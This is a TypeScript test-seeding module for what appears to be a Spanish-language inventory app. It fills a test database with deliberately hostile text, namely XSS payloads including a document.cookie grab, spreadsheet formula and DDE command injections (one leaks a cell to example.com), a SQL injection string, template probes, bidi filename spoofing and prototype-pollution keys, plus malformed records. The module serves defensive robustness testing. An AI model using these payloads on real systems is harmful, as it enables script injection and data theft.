import type Database from 'libsql';
import { addDays } from '../clock';
import { insertRows } from '../database';
import type { Overrides } from '../overrides';
import type { batchTables } from './batches';
import { firstBusiness, type businessTables, type SeedBranch } from './branches';
import { catalogId, type CatalogRow } from './catalogs';
import { seedHostileRecords } from './hostile-records';
import type { CategoryRow, ProductRow } from './products';
import { stableId } from './random';
import type { taxTables } from './taxes';
import type { Row } from '../table';

/** Texts that hurt whoever shows them as markup, runs them as a formula, or trusts their looks or their length. */
export const hostileTexts = {
  markup: '<img src=x onerror="document.title=\'owned\'"><script>alert(1)</script>',
  attribute: '" onmouseover="alert(1)" x="\'><svg/onload=alert(1)>',
  link: 'javascript:alert(document.cookie)//{{constructor.constructor("alert(1)")()}}',
  formula: '=HYPERLINK("http://example.com/?"&A1,"Ver")',
  command: "+cmd|' /C calc'!A0",
  minus: '-2+3*cmd',
  at: '@SUM(1+1)*cmd',
  tabbed: '\t=1+1\r\n"Segunda";línea',
  bidi: 'Factura \u202Efdp.exe\u202C pagada',
  invisible: 'Ar\u200Broz\u00AD blan\u2060co\uFEFF',
  isolate: '\u2067שלום عليكم\u2069 S.A.',
  combining: 'Za\u0335\u0321\u030A\u0301lgo e\u0301 ñ n\u0303',
  emoji: '👩🏽‍🌾 Café 🇸🇻 1️⃣',
  control: 'campana\u0007 escape\u001B[31m borrar\u007F',
  separators: 'uno\u2028dos\u2029tres',
  long: `Producto de nombre larguísimo ${'sin espacio-'.repeat(22)}fin`.padEnd(300, 'x'),
  unbroken: 'W'.repeat(300),
  blank: '   ',
  prototype: '__proto__',
  sql: "Robert'); DROP TABLE products;--",
  template: '${7*7} {{7*7}} <%= 7*7 %> %s %n',
} as const;

const texts = Object.entries(hostileTexts);

/** What else the wire can hold: fields missing, null, of another type, unknown; words no description lists. */
const oddRecords: readonly Overrides[] = [
  { set: { surprise: { nested: [1, null, '<b>'] }, constructor: 'x', toJSON: 'y' } },
  { set: { name: null, sku: null } },
  { set: { name: 42, sku: true } },
  { set: { product_type: 'ghost', tax_method: 'is_magic', composition_type: '<i>' } },
  { set: { price_before_taxes: '12.50', cost: 'abc', availability: '1e3' } },
  { set: { price_before_taxes: null, availability: null, limit_availability: null, taxes: null } },
  { set: { price_before_taxes: -0.01, availability: -3, cost: 1e21 } },
  { set: { taxes: [{ id: null, tax_type: 'ghost', percent: '0.13' }, null, 'x'] } },
  // The database ends a text at its first NUL; the wire does not.
  { set: { name: 'nulo\u0000oculto', sku: '\u0000' } },
  { drop: ['name', 'sku', 'taxes'] },
  { drop: ['id'] },
];

const oddBatches: readonly Overrides[] = [
  { set: { product: null } },
  { set: { product: { id: null, sku: null, name: null } } },
  { set: { expiration_date: '0000-00-00', days_to_expire: -99_999 } },
  { set: { expiration_date: 'mañana', days_to_expire: '3' } },
  { set: { expiration_date: '2026-02-30T25:61:00Z', days_to_expire: 1.5 } },
  { set: { quantity: -5, available_quantity: 1e21 } },
  { set: { quantity: '12', available_quantity: null } },
  { set: { is_expired: 1, is_removed: 'false' } },
  { set: { is_expired: true, days_to_expire: 40 } },
  { set: { batch_number: 12_345, hasOwnProperty: null } },
  { drop: ['expiration_date', 'days_to_expire', 'batch_number'] },
  { drop: ['id'] },
];

const id = (kind: string, key: string | number) => stableId(`hostile ${kind}`, key);

function branchRows(): Row<typeof businessTables.branches>[] {
  const rows = (['markup', 'bidi', 'long', 'emoji'] as const).map((key) => ({
    id: id('branch', key),
    business_id: firstBusiness.id,
    name: hostileTexts[key],
    overrides: null,
  }));
  const [template] = rows;
  if (!template) return rows;
  const nameless = { set: { name: null, extra: { deep: true } } };
  return [
    ...rows,
    { ...template, id: id('branch', 'nameless'), overrides: JSON.stringify(nameless) },
  ];
}

function categoryRows(): CategoryRow[] {
  return texts.map(([key, name]) => ({
    id: id('category', key),
    business_id: firstBusiness.id,
    name,
    number_code: key === 'formula' ? '=1+1' : '00',
    trashed: key === 'blank' ? 1 : 0,
    overrides: null,
  }));
}

function productRow(branch: SeedBranch, key: string | number, name: string): ProductRow {
  return {
    id: id('product', key),
    business_id: firstBusiness.id,
    branch_id: branch.id,
    sku: `${name.slice(0, 12)}-${key}`,
    name,
    product_type: 'phisical',
    composition_type: 'simple',
    tax_method: 'taxed',
    price_before_taxes: 1.005,
    cost: 0.1 + 0.2,
    margin: null,
    availability: 1.5,
    limit_availability: 2,
    product_category_id: id('category', 'markup'),
    product_measurement_id: catalogId('units', '59'),
    tax_ids: JSON.stringify([id('tax', 'odd')]),
    base_unit_quantity: null,
    portions: '[]',
    prices: '[]',
    overrides: null,
  };
}

function productRows(branch: SeedBranch): ProductRow[] {
  return [
    ...texts.map(([key, text]) => productRow(branch, key, text)),
    ...oddRecords.map((overrides, index) => ({
      ...productRow(branch, index, `Producto raro ${index}`),
      overrides: JSON.stringify(overrides),
    })),
  ];
}

type BatchRow = Row<typeof batchTables.batches>;

function batchRows(branch: SeedBranch, today: string): BatchRow[] {
  const row = (key: string | number, number: string, days: number): BatchRow => ({
    id: id('batch', key),
    business_id: firstBusiness.id,
    branch_id: branch.id,
    product_id: id('product', texts[days % texts.length]?.[0] ?? 'markup'),
    batch_number: number,
    expiration_date: addDays(today, days - 3),
    quantity: 0.1 + 0.2,
    available_quantity: 0.1,
    is_removed: 0,
    is_seed: 1,
    overrides: null,
  });
  return [
    ...texts.map(([key, text], index) => row(key, text, index)),
    ...oddBatches.map((overrides, index) => ({
      ...row(index, `RARO-${index}`, index),
      overrides: JSON.stringify(overrides),
    })),
  ];
}

function taxRow(): Row<typeof taxTables.taxes> {
  return {
    id: id('tax', 'odd'),
    business_id: firstBusiness.id,
    name: hostileTexts.attribute,
    number_code: '=20',
    tax_type: 'ghost',
    percent: 13,
    overrides: JSON.stringify({ set: { unknown_field: hostileTexts.markup } }),
  };
}

function catalogRows(): CatalogRow[] {
  const row = (catalog: string, key: string, name: string): CatalogRow => ({
    id: id(catalog, key),
    catalog,
    parent_id: null,
    name,
    number_code: '<b>',
    trashed: 0,
    overrides: null,
  });
  return [
    row('units', 'markup', hostileTexts.markup),
    row('payment-methods', 'bidi', hostileTexts.bidi),
    row('incoterms', 'long', hostileTexts.long),
    row('activities', 'formula', hostileTexts.formula),
    row('countries', 'invisible', hostileTexts.invisible),
  ];
}

/** Adds, in the first branch of the first business, rows that try to hurt whoever shows them. */
export function seedHostile(file: Database.Database, today: string): void {
  const [branch] = firstBusiness.branches;
  if (!branch) return;
  insertRows(file, 'branches', branchRows());
  insertRows(file, 'categories', categoryRows());
  insertRows(file, 'taxes', [taxRow()]);
  insertRows(file, 'catalog_items', catalogRows());
  insertRows(file, 'products', productRows(branch));
  insertRows(file, 'batches', batchRows(branch, today));
  seedHostileRecords(file, hostileTexts, hostileTexts.markup);
}
